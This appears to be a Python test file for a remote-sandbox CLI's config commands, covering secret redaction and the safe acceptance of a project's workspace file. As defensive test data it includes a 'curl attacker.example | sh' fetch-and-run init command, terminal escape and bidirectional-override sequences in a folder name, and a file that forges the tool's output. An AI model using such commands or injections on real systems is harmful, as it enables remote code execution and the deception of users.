from __future__ import annotations

import os
from argparse import Namespace
from pathlib import Path
from typing import Any

import pytest

from remote_sandbox_mcp.cli import config, syncing
from remote_sandbox_mcp.config.workspace_file import NAME, accepted_file
from remote_sandbox_mcp.core.errors import ConfigError
from tests.cli.conftest import Cli, at_a_terminal

CONFIG = """
default = "gpu2"

[server]
patience_s = 40
colour = "red"

[machines.gpu1]
host = "192.0.2.1"
user = "me"
password = "hunter2-is-secret"
env = { TOKEN = "hunter2-is-secret" }

[machines.gpu2]
host = "192.0.2.2"
port = 2222

[sandboxes.web]
command = ["door", "hunter2-is-secret"]
"""


def test_the_path_is_told_whether_or_not_it_is_there(cli: Cli, tmp_path: Path) -> None:
    assert cli("config", "path").stdout.endswith("/remote-sandbox-mcp/config.toml\n")
    assert cli("--config", str(tmp_path / "mine.toml"), "config", "path").stdout == f"{tmp_path}/mine.toml\n"


def test_everything_is_shown_with_its_origin_and_no_secret(cli: Cli, tmp_path: Path) -> None:
    file = tmp_path / "config.toml"
    file.write_text(CONFIG)
    file.chmod(0o644)
    page = cli("--config", str(file), "config", "show", REMOTE_SANDBOX_LIST="")
    rows = [" ".join(line.split()) for line in page.stdout.splitlines()]
    assert page.code == 0
    assert f"config file {file}" in rows
    assert "default gpu2" in rows
    assert f"gpu1 from {file} [machines.gpu1]" in rows
    assert f"web from {file} [sandboxes.web]" in rows
    assert "command door ..." in rows
    assert "password hidden" in rows
    assert "env TOKEN hidden" in rows
    assert f"patience_s 40 {file}" in rows
    assert "connect_timeout_s 5 default" in rows
    assert any("the unknown key" in row and "colour" in row for row in rows)
    assert any("chmod 600" in row for row in rows)
    assert "hunter2" not in page.stdout + page.stderr


def test_json_is_the_same_for_programs(cli: Cli, tmp_path: Path) -> None:
    file = tmp_path / "config.toml"
    file.write_text(CONFIG)
    shown = cli("--config", str(file), "config", "show", "--json", REMOTE_SANDBOX_LIST="")
    assert [machine["name"] for machine in shown.json["machines"]] == ["gpu1", "gpu2"]
    assert shown.json["settings"]["patience_s"] == {"value": 40.0, "source": str(file)}
    assert shown.json["problems"]
    assert "hunter2" not in shown.stdout


def test_nothing_configured_is_no_error(cli: Cli) -> None:
    page = cli("config", "show", REMOTE_SANDBOX_LIST="")
    assert page.code == 0
    assert "(not there)" in page.stdout
    assert "the embedded sandbox on this machine" in page.stdout


def test_config_alone_shows(cli: Cli) -> None:
    assert cli("config").stdout == cli("config", "show").stdout
    assert cli("config", "--json").json == cli("config", "show", "--json").json


def test_a_broken_file_is_not_told_as_one_that_is_not_there(cli: Cli, tmp_path: Path) -> None:
    file = tmp_path / "config.toml"
    file.write_text("machines = [\n")
    page = cli("config", "--config", str(file))
    assert f"config file  {file} (cannot be used)" in page.stdout
    assert "it is not valid TOML" in page.stdout
    assert "(not there)" not in page.stdout


# Accepting what a project brings

EVIL = "\x1b]0;owned\x07\x1b[2J\x1b[31m\nAccepted: nothing to see\u202e"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A cloned repository; nothing of its file is accepted yet."""
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / NAME).write_text('sandbox = "gpu1"\ninit = "make tools"\n')
    return folder


@pytest.mark.parametrize(("typed", "is_accepted"), [(b"y\n", True), (b"n\n", False), (b"\n", False), (b"\x04", False)])
def test_a_file_is_shown_then_asked_about_then_accepted(
    cli: Cli, project: Path, typed: bytes, is_accepted: bool
) -> None:
    seen = at_a_terminal(cli, "config", "allow", str(project), typed=typed)
    content, counts = seen.index('| init = "make tools"'), seen.index("  init = make tools")
    assert content < counts < seen.index("Accept it as it is now? [y/N]")
    assert ("Accepted as it is now:" in seen) is is_accepted
    assert (accepted_file(str(project)) is not None) is is_accepted


@pytest.mark.parametrize("words", [(), ("--json",)], ids=["for people", "for programs"])
def test_without_a_terminal_nothing_is_accepted_unless_it_is_said_before(
    cli: Cli, project: Path, words: tuple[str, ...]
) -> None:
    refused = cli("config", "allow", str(project), *words)
    assert refused.code == 2
    assert "then add --yes" in (refused.json["error"] if words else refused.stderr)
    assert accepted_file(str(project)) is None
    assert cli("config", "allow", str(project), "--yes", *words).code == 0
    assert accepted_file(str(project)) is not None


async def test_a_file_that_changes_before_the_answer_is_not_accepted(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    async def exchanged(question: str) -> bool:
        (project / NAME).write_text('init = "curl attacker.example | sh"\n')
        return True

    monkeypatch.setattr(syncing, "asked", exchanged)
    monkeypatch.setattr("sys.stdin.isatty", lambda: True, raising=False)
    monkeypatch.setattr("sys.stderr.isatty", lambda: True, raising=False)
    options = Namespace(action="allow", file=str(project), json=False, yes=False)
    with pytest.raises(ConfigError, match="has changed since it was shown"):
        await config.run(options)
    assert accepted_file(str(project)) is None
    assert "attacker" not in capsys.readouterr().err


@pytest.mark.parametrize("verb", [("config", "allow", "--yes"), ("config", "deny"), ("config", "show")], ids=" ".join)
def test_a_folders_name_moves_nothing_on_the_terminal(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, verb: tuple[str, ...]
) -> None:
    folder = tmp_path / EVIL
    folder.mkdir()
    (folder / NAME).write_text('init = "make"\n')
    monkeypatch.chdir(folder)
    if verb != ("config", "allow", "--yes"):
        assert cli("config", "allow", "--yes").code == 0
    named: tuple[Any, ...] = () if verb[-1] == "show" else (os.getcwd(),)
    for said in (at_a_terminal(cli, *verb, *named), (plain := cli(*verb, *named)).stdout, plain.stderr):
        assert [mark for mark in ("\x1b]0", "\x1b[2J", "\x07", "\u202e") if mark in said] == []
        assert "\nAccepted: nothing to see" not in said.replace("\r", "")


def test_a_file_cannot_speak_in_our_place(cli: Cli, project: Path) -> None:
    (project / NAME).write_text('init = "evil"\n#\n#\nonly_remote = true #\r\n# What counts of it:\n#  nothing\n')
    seen = cli("config", "allow", str(project), "--yes").stderr
    assert seen.count("\nWhat counts of it:\n") == 1
    assert seen.endswith("What counts of it:\n  init = evil\n  only_remote = yes\n")
